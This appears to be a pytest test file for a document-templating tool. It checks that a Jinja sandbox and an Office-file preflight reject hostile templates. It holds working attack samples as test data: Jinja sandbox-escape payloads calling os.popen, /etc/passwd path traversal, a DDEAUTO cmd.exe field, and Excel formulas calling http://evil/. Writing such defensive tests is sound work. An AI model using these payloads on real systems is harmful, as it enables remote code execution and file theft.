"""A template of a campaign that tries to run, read, send, loop or swell is refused with its place, and nothing runs.

These templates are rendered in this very process: what holds them is the sandbox alone, and no fence (test_fence.py).
"""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from own_templates import changed, noted, sheet, word

from kdiem.errors import KdiemError
from kdiem.formats import markdown
from kdiem.formats.base import Frame
from kdiem.formats.forms import preflight
from kdiem.formats.rendering import sheets, words
from kdiem.shipped import shipped
from kdiem.yaml import yamlfile

PROFILE = yamlfile.load(shipped("templates", "profiles", "hd36_2018.yaml").read_bytes())
DATA = {"name": "Chi bộ Một", "rows": [{"label": "a", "count": 3}], "none": None}
FRAME = Frame("Đảng uỷ", "Số 05-BC/ĐU", "Bắc Ninh, ngày 03 tháng 5 năm 2013", "kết quả", signer="Nguyễn Văn Mẫu")
SECRET = "kdiem-canary-6b1f"

# What a template may try to run a program with. `{canary}` is a file that is there afterwards if it did.
PAYLOADS = {
    "a global of Jinja": "{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}",
    "a loop's own globals": "{% for a in rows %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "classes of a text": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "the same by item": "{{ ''['__class__']['__mro__'] }}",
    "attr": "{{ ''|attr('__class__') }}",
    "map": "{{ rows|map(attribute='__class__')|list }}",
    "format": "{{ '{0.__class__}'|format(rows) }}",
    "format of a text": "{{ '{0.__class__}'.format(rows) }}",
    "import": "{% import '/etc/passwd' as secret %}",
    "from": "{% from 'sections/notes.md.j2' import a %}",
    "macro": "{% macro a() %}{{ caller() }}{% endmacro %}{{ a.__globals__ }}",
    "call": "{% call lipsum() %}{% endcall %}",
    "block": "{% block a %}{% endblock %}{{ self.a.__globals__ }}",
    "extends": "{% extends '/etc/passwd' %}",
    "set": "{% set a %}{{ name }}{% endset %}",
    "filter block": "{% filter upper %}a{% endfilter %}",
    "a method": "{{ name.upper() }}",
    "a list's method": "{{ rows.append(1) }}",
    "the context": "{{ self._TemplateReference__context }}",
    "a global function": "{{ range(10000000) }}",
    "a namespace": "{% set a = namespace(x=1) %}",
    "a long text": "{{ 'a' * 10**10 }}",
    "a large number": "{{ 10**(10**8) }}",
    "doubling": "{% set a = 'aaaaaaaa' %}{% set b = a ~ a ~ a %}{{ b }}",
    "a name that it may not see": "{{ commenter }}",
    "an item that is not there": "{{ rows[7].label }}",
    "a debug tag": "{% debug %}",
}
TWINS = {
    "{{ name }}": "Chi bộ Một",
    "{% for a in rows %}{{ loop.index }} {{ a.label }} {{ a['count'] | padded }}{% endfor %}": "1 a 03",
    "{% if none is none %}không{% else %}có{% endif %}": "không",
    "{{ rows[0].label }}": "a",
    "{# {{ cycler.__init__ }} #}{{ none }}": "—",
}


def in_text(tag: str) -> str:
    return markdown.render("own.md.j2", DATA, [], {"own.md.j2": f"một\n{tag}\n".encode()}).removeprefix("một\n").strip()


def question(raw: bytes, path: str) -> dict[str, Any]:
    about = {"body": "", "frame": FRAME._asdict(), "profile": PROFILE, "properties": {}, "charts": {}}
    return {**about, "path": path, "file": base64.b64encode(raw).decode(), "data": DATA}


def in_word(raw: bytes) -> bytes:
    preflight.check(raw, "own.docx")
    return base64.b64decode(words.answer(question(raw, "own.docx"))["file"])


def in_sheet(raw: bytes) -> bytes:
    preflight.check(raw, "own.xlsx")
    return base64.b64decode(sheets.answer(question(raw, "own.xlsx"))["file"])


# Where a tag may stand, by the file it makes: where it is filled in, and where none is.
FILLED: dict[str, Callable[[str], object]] = {
    "text, line 2": in_text,
    "Word, text, paragraph 2": lambda tag: in_word(word("một", tag)),
    "Word, header, paragraph 1": lambda tag: in_word(word("một", header=tag)),
    "Word, footer, paragraph 1": lambda tag: in_word(word("một", footer=tag)),
    "Word, footnotes, paragraph 1": lambda tag: in_word(noted(word("một"), "footnotes", escaped(tag))),
    "Excel, sheet `Biểu`, cell B2": lambda tag: in_sheet(sheet(["một"], ["hai", tag])),
}
BARE: dict[str, Callable[[str], object]] = {
    "Word, word/comments.xml": lambda tag: in_word(noted(word("một"), "comments", escaped(tag))),
    "Word, word/document.xml": lambda tag: in_word(field(escaped(tag))),
    "Word, docProps/core.xml": lambda tag: in_word(word("một", title=tag)),
    "Word, docProps/custom.xml": lambda tag: in_word(noted(word("một"), "custom", escaped(tag))),
    "Excel, xl/comments1.xml": lambda tag: in_sheet(sheet(["một"], note=tag)),
    "Excel, xl/worksheets/sheet1.xml": lambda tag: in_sheet(sheet(["một"], header=tag)),
    "Excel, xl/workbook.xml": lambda tag: in_sheet(sheet(["một"], defined=tag.replace('"', "'"))),
    "Excel, docProps/core.xml": lambda tag: in_sheet(sheet(["một"], author=tag)),
}


def escaped(tag: str) -> str:
    return tag.replace("&", "&amp;").replace("<", "&lt;")


@pytest.mark.parametrize("place", FILLED)
@pytest.mark.parametrize("kind", PAYLOADS)
def test_what_reaches_further_is_refused_with_its_place_and_nothing_runs(
    kind: str, place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KDIEM_CANARY", SECRET)
    canary = tmp_path / "canary"
    with pytest.raises(KdiemError) as refused:
        FILLED[place](PAYLOADS[kind].replace("{canary}", str(canary)))
    assert place.split(", ", 1)[1] in refused.value.say("en")
    assert SECRET not in refused.value.say("en") + refused.value.say("vi")
    assert not canary.exists()


@pytest.mark.parametrize("place", FILLED)
def test_its_innocent_twins_are_taken(place: str) -> None:
    for tag in TWINS:
        made = FILLED[place](tag)
        assert made == TWINS[tag] if isinstance(made, str) else made


@pytest.mark.parametrize("place", BARE)
@pytest.mark.parametrize("tag", ["{{ name }}", PAYLOADS["a global of Jinja"], "{% for a in rows %}{% endfor %}"])
def test_where_no_tag_is_filled_in_any_tag_is_refused(tag: str, place: str, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    with pytest.raises(KdiemError) as refused:
        BARE[place](tag.replace("{canary}", str(canary)))
    assert f"{place.split(', ', 1)[1]}, " in refused.value.say("en")
    assert not canary.exists()
    assert BARE[place]("{ name }")


def test_the_payload_is_live_where_nothing_holds_it(tmp_path: Path) -> None:
    """Else all of the above would prove nothing."""
    from jinja2 import Environment

    canary = tmp_path / "canary"
    payload = PAYLOADS["a global of Jinja"].replace("{canary}", str(canary))
    Environment().from_string(payload).render()
    assert canary.exists() or os.name == "nt"


FRAMED = shipped("templates", "frames", "party.docx").read_bytes()


def in_frame(tag: str) -> bytes:
    part = "word/document.xml"
    return in_word(changed(FRAMED, {part: lambda old: old.replace("{{ signer }}", escaped(tag))}))


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_frame_that_reaches_further_is_refused_with_its_place(kind: str, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    with pytest.raises(KdiemError, match="template `own.docx`, text, paragraph "):
        in_frame(PAYLOADS[kind].replace("{canary}", str(canary)))
    assert not canary.exists()


def test_a_frame_may_use_what_frames_have() -> None:
    assert in_frame("{{ signer }}, {{ number }}") and in_frame("{% if sealed %}{{ post }}{% endif %}")


# Files that lie beside it


READS = [
    "../../etc/passwd",
    "/etc/passwd",
    "sections/../../../secret.txt",
    "..\\secret.txt",
    "C:/secret.txt",
    "file:///etc/passwd",
]


@pytest.mark.parametrize("name", READS)
def test_no_file_but_a_template_is_included(name: str, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text(SECRET)
    with pytest.raises(KdiemError, match="there is no template") as refused:
        in_text(f"{{% include {json.dumps(name)} %}}")
    assert SECRET not in str(refused.value)
    sections = {"own.md.j2": b'{% include "sections/a.md.j2" %}', "sections/a.md.j2": "Phần một".encode()}
    assert markdown.render("own.md.j2", DATA, [], sections) == "Phần một\n"


# Office files that are not even opened

RELATION = '<Relationship Id="rId77" Type="http://a/relationships/{kind}" Target="{target}"{mode}/></Relationships>'


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    ends = RELATION.format(kind=kind, target=target, mode=mode)
    return changed(word("một"), {"word/_rels/document.xml.rels": lambda old: old.replace("</Relationships>", ends)})


def field(code: str) -> bytes:
    run = f"<w:r><w:instrText>{code}</w:instrText></w:r></w:p>"
    return changed(word("một"), {"word/document.xml": lambda old: old.replace("</w:p>", run, 1)})


UNOPENED = {
    "it is no Word or Excel file that can be read": b"PK\x03\x04",
    "it holds macros": changed(word("a"), {}, {"word/vbaProject.bin": b"a"}),
    "it holds a DTD": changed(word("a"), {"word/settings.xml": lambda old: "<!DOCTYPE a>" + old}),
    "it holds a DTD, whatever the part is called": changed(word("a"), {}, {"word/a.bin": "\n<!DOCTYPE a>"}),
    "it unpacks to": changed(word("a"), {}, {f"word/{n}.xml": "a" for n in range(600)}),
    "its parts have names": changed(word("a"), {}, {"../a.xml": "a"}),
    "it takes something from outside: attachedTemplate": related("attachedTemplate", "http://evil/a.dotm"),
    "it takes something from outside: image": related("image", "file://server/a.png"),
    "it takes something from outside: hyperlink": related("hyperlink", "file://server/a"),
    "it embeds another file: oleObject": related("oleObject", "embeddings/a.bin", ""),
    "it embeds another file: aFChunk": related("aFChunk", "a.html", ""),
    "it holds a field that fetches or runs something: DDEAUTO": field(' DDEAUTO c:\\\\cmd.exe "/k calc" '),
    "it holds a field that fetches or runs something: INCLUDETEXT": field(
        "INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT a"
    ),
    "it holds the instruction": changed(
        word("a"), {"word/document.xml": lambda old: old.replace("<w:body>", "<w:body><?kdiem body?>")}
    ),
}


@pytest.mark.parametrize("reason", UNOPENED)
def test_an_office_file_that_would_hurt_is_not_opened(reason: str) -> None:
    with pytest.raises(KdiemError) as refused:
        preflight.check(UNOPENED[reason], "templates/documents/a.docx")
    said = f"template `templates/documents/a.docx` is not opened: {reason.split(', whatever')[0]}"
    assert refused.value.say("en").startswith(said)


@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://evil/"&A1)', "=cmd|'/c calc'!A1", '=RTD("a",,"b")'])
def test_a_formula_that_asks_outside_is_not_opened(formula: str) -> None:
    with pytest.raises(KdiemError, match="it holds a field that fetches or runs something"):
        preflight.check(sheet(["a", formula]), "a.xlsx")
    preflight.check(sheet(["a", '=IF(A1="cmd|a",SUM(A1:A2),HYPERLINK("https://dangcongsan.vn"))']), "a.xlsx")


def test_their_innocent_twins_are_opened() -> None:
    preflight.check(word("một"), "a.docx")
    preflight.check(related("hyperlink", "https://dangcongsan.vn"), "a.docx")
    preflight.check(related("hyperlink", "mailto:vanphong@example.vn"), "a.docx")
    preflight.check(field(" PAGE \\* MERGEFORMAT "), "a.docx")
    preflight.check(field(" HYPERLINK \\l muc1 "), "a.docx")
    preflight.check((shipped("templates", "frames") / "party.docx").read_bytes(), "a.docx")
    assert Document(shipped("templates", "frames") / "state.docx").paragraphs
